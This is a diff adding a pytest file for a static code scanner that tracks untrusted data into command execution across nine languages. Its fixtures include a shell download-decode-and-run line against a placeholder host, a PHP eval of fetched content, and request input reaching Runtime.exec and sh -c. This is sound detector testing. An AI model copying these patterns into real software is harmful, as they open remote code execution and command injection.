@@ -1,0 +1,117 @@
+"""The Go/Java/Kotlin/C#/C/C++/PHP/Ruby/shell adapters: canonical callees, labels that follow the data, traces."""
+from __future__ import annotations
+
+import importlib
+import time
+
+import pytest
+
+from codescan.analyze import languages
+from codescan.analyze.document import Analyzer
+from codescan.analyze.treesitter import Deadline
+from codescan.config import Config
+from codescan.records import Document
+from codescan.rules import load_rules
+
+RULES = load_rules()
+
+
+def calls(language: str, code: str):
+    adapter = importlib.import_module(f"codescan.analyze.semantics.lang.{language}")
+    source = code.encode()
+    return adapter.facts(source, languages.parser(language).parse(source), None, None).calls
+
+
+def one(language: str, code: str, callee: str):
+    found = [c for c in calls(language, code) if c.callee == callee]
+    assert found, f"no {callee} in {[c.callee for c in calls(language, code)]}"
+    return found[0]
+
+
+def findings(path: str, code: str):
+    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
+    return analyzer.analyze(Document(path=path, content=code.encode())).findings
+
+
+@pytest.mark.parametrize("language, code, callee", [
+    ("go", 'package m\nimport x "os/exec"\nfunc f() { x.Command("id") }', "os/exec.Command"),
+    ("java", "class A { void f() { Runtime.getRuntime().exec(\"id\"); } }", "java.lang.Runtime.exec"),
+    ("kotlin", 'fun f() { ProcessBuilder("id").start() }', "java.lang.ProcessBuilder"),
+    ("csharp", "using System.Diagnostics; class A { void F() { Process.Start(\"id\"); } }",
+     "System.Diagnostics.Process.Start"),
+    ("c", 'int main() { system("id"); }', "libc.system"),
+    ("cpp", 'int main() { std::system("id"); }', "libc.system"),
+    ("php", '<?php $o = `id`;', "php.shell_exec"),
+    ("ruby", "x = %x(id)", "Kernel.backtick"),
+    ("shell", "sudo -u root bash -c id", "shell.bash"),
+])
+def test_canonical_callees(language, code, callee):
+    one(language, code, callee)
+
+
+def test_go_value_through_helper_field_and_pieces():
+    code = '''package m
+import ("io"; "net/http"; "os/exec")
+type job struct{ cmd string }
+func get(u string) string { r, _ := http.Get(u); b, _ := io.ReadAll(r.Body); return string(b) }
+func run(c string) { exec.Command("sh", "-c", c).Run() }
+func main() {
+    j := job{}
+    j.cmd = "echo " + get("http://h/x")
+    run(j.cmd)
+}'''
+    call = one("go", code, "os/exec.Command")
+    assert "network" in call.args[2].labels
+    assert any("passed to run()" in s.note for s in call.args[2].trace)
+
+
+def test_java_reflection_and_array_reach_runtime_exec():
+    code = '''class A { void f(javax.servlet.http.HttpServletRequest req) throws Exception {
+        String c = req.getParameter("c");
+        String[] argv = {"sh", "-c", c};
+        Class.forName("java.lang." + "Runtime").getMethod("exec", String[].class).invoke(Runtime.getRuntime(), argv);
+    } }'''
+    call = one("java", code, "java.lang.Runtime.exec")
+    assert call.via == "dynamic" and "request" in call.args[0].labels
+
+
+def test_constant_command_carries_no_label():
+    call = one("go", 'package m\nimport "os/exec"\nfunc f() { c := "ls " + "-la"; exec.Command("sh", "-c", c) }',
+               "os/exec.Command")
+    assert call.args[2].const == "ls -la" and not call.args[2].labels
+
+
+def test_shell_pipe_and_download_then_run():
+    facts = calls("shell", 'u=http://h/x\ncurl -s "$u" | base64 -d | sh\ncurl -o /tmp/a "$u"\nbash /tmp/a\n')
+    sh = next(c for c in facts if c.callee == "shell.sh")
+    assert {"network", "decoded"} <= dict(sh.kwargs)["stdin"].labels
+    bash = next(c for c in facts if c.callee == "shell.bash")
+    assert "network" in bash.args[0].labels
+
+
+def test_severity_follows_the_data():
+    request = 'package m\nimport ("net/http"; "os/exec")\nfunc h(w http.ResponseWriter, r *http.Request) {\n' \
+              '    c := r.FormValue("c")\n    exec.Command("sh", "-c", c).Run()\n}\n'
+    constant = 'package m\nimport "os/exec"\nfunc h() {\n    c := "uptime"\n    exec.Command("sh", "-c", c).Run()\n}\n'
+    hit = [f for f in findings("a.go", request) if f.rule_id == "command-from-request-input"]
+    assert hit and hit[0].severity in ("high", "critical") and hit[0].line == 5
+    assert not [f for f in findings("b.go", constant) if f.rule_id == "command-from-request-input"]
+
+
+def test_finding_carries_its_trace():
+    code = '<?php\n$p = file_get_contents("http://h/p");\n$q = $p;\neval($q);\n'
+    hit = [f for f in findings("a.php", code) if f.rule_id == "exec-of-network-response"]
+    assert hit and [s.line for s in hit[0].trace][:1] == [2] and hit[0].trace[-1].line == 4
+
+
+def test_deadline_stops_the_layer():
+    from codescan.analyze.semantics.lang.clike_go import GoFlow
+    source = ("package m\nfunc f() {\n" + "    x := 1\n" * 3000 + "}\n").encode()
+    flow = GoFlow(source, languages.parser("go").parse(source), "go", time.monotonic() - 1, None)
+    with pytest.raises(Deadline):
+        flow.facts()
+
+
+@pytest.mark.parametrize("language", ["go", "java", "kotlin", "csharp", "c", "cpp", "php", "ruby", "shell"])
+def test_broken_source_gives_facts_not_errors(language):
+    calls(language, "(((( ]] system( $x = `` ${ \" ' func class { exec(")
